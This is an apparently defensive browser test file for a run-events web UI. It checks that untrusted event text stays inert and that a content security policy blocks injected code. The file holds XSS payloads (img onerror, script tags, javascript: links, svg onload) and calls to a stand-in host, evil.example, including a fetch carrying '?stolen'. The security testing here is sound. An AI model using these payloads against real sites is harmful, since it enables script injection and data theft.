// What an event says is text: no name, token, output, error or file of a run becomes markup or runs.

import assert from "node:assert/strict";
import { test } from "node:test";

import { json } from "../support/api.js";
import { byId, launch, openPage } from "../support/browser.js";
import { startServer } from "../support/server.js";

const IMAGE = `<img src=x onerror="window.hacked='image'">`;
const SCRIPT = `<script>window.hacked='script'</script>`;
const LINK = "javascript:window.hacked='link'";
const MARKDOWN = `# x\n[click](${LINK}) ![x](${LINK}) <svg onload="window.hacked='svg'"></svg>${IMAGE}`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="window.hacked='file'"><script>window.hacked='file'</script></svg>`;
const HASH = "e".repeat(64);

const post = (url, body) =>
  json(url, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

const says = (kind, data) => ({ event_type: "step_progress", step_id: IMAGE, data: { kind, ...data } });

async function produce(server) {
  const name = `${IMAGE}${SCRIPT}`;
  await post(`${server.url}/api/executions`, { mode: "external", pipeline: name, execution_id: "h", steps: [{ id: IMAGE, name }] });
  await post(`${server.url}/api/executions/h/events`, [
    { event_type: "step_start", step_id: IMAGE },
    says("token", { text: MARKDOWN }),
    says("token", { text: MARKDOWN, channel: "reasoning" }),
    says("log", { level: "info", message: IMAGE }),
    says("llm", { provider: IMAGE, model: SCRIPT }),
    says("tool_call", { call_id: "1", name: IMAGE, arguments: JSON.stringify({ url: LINK, html: IMAGE }), done: true }),
    says("artifact", { name: `${IMAGE}.svg`, media_type: "image/svg+xml", size: SVG.length, sha256: HASH }),
    { event_type: "step_complete", step_id: IMAGE, data: { output: { url: LINK, html: IMAGE, [IMAGE]: SCRIPT }, duration_ms: 1 } },
    { event_type: "custom", data: { [IMAGE]: MARKDOWN } },
  ]);
  await post(`${server.url}/api/executions/h/events`, [
    { event_type: "pipeline_error", data: { error: { category: "unknown", severity: "error", message: IMAGE, recoverable: false }, reason: "failed", duration_ms: 1 } },
  ]);
}

test("img onerror, script, javascript: and SVG in names, tokens, Markdown, outputs and files stay text", async (t) => {
  const server = await startServer(t);
  const browser = await launch(t);
  await produce(server);
  const page = await openPage(browser, `${server.url}/#/`);
  await page.route(`**/artifacts/${HASH}`, (route) => route.fulfill({ contentType: "image/svg+xml", body: SVG }));
  await byId(page, "run-link").or(page.getByText("<img src=x").first()).first().waitFor();
  await page.goto(`${server.url}/#/runs/h`);
  await byId(page, "ending").waitFor();
  const step = byId(page, "step").first();
  await step.waitFor();
  for (const summary of await page.locator("summary").all()) {
    await summary.click();
  }
  await page.getByText("<img src=x onerror").first().waitFor();
  const found = await page.evaluate(() => ({
    hacked: window.hacked ?? null,
    handlers: document.querySelectorAll("[onerror], [onload], [onclick]").length,
    foreign: document.querySelectorAll('img[src="x"], main script, main svg[onload]').length,
    links: [...document.querySelectorAll("[href], [src], [action]")]
      .map((element) => element.getAttribute("href") ?? element.getAttribute("src") ?? element.getAttribute("action"))
      .filter((address) => /^\s*(javascript|vbscript|data:text)/i.test(address)),
  }));
  assert.deepEqual(found, { hacked: null, handlers: 0, foreign: 0, links: [] });
  assert.deepEqual(page.problems, []);
});

test("markup that came into the page all the same could run nothing, and send nothing away", async (t) => {
  const server = await startServer(t);
  const browser = await launch(t);
  const page = await openPage(browser, `${server.url}/#/`);
  await page.locator("main").waitFor();
  const broken = await page.evaluate(async (html) => {
    const violated = [];
    document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
    document.body.insertAdjacentHTML("beforeend", html);
    const script = document.createElement("script");
    script.textContent = "window.hacked = 'inline'";
    document.body.append(script);
    const foreign = document.createElement("script");
    foreign.src = "http://evil.example/x.js";
    document.body.append(foreign);
    const frame = document.createElement("iframe");
    frame.src = "http://evil.example/";
    document.body.append(frame);
    const refused = [];
    // a debugger's own calls are let through, a timer's are not
    const evaluated = () => {
      try {
        (0, eval)("1");
      } catch {
        refused.push("eval");
      }
    };
    await new Promise((resolve) => setTimeout(() => resolve(evaluated()), 0));
    await fetch("http://evil.example/?stolen").catch(() => refused.push("fetch"));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { violated: [...new Set(violated)].sort(), refused, hacked: window.hacked ?? null };
  }, `${IMAGE}<a href="${LINK}" id="bad">x</a>`);
  assert.equal(broken.hacked, null);
  assert.deepEqual(broken.refused, ["eval", "fetch"]);
  for (const directive of ["script-src-elem", "script-src-attr", "frame-src", "connect-src"]) {
    assert.ok(broken.violated.includes(directive), `${directive} of ${broken.violated}`);
  }
  await page.locator("#bad").click();
  assert.equal(await page.evaluate(() => window.hacked ?? null), null);
});
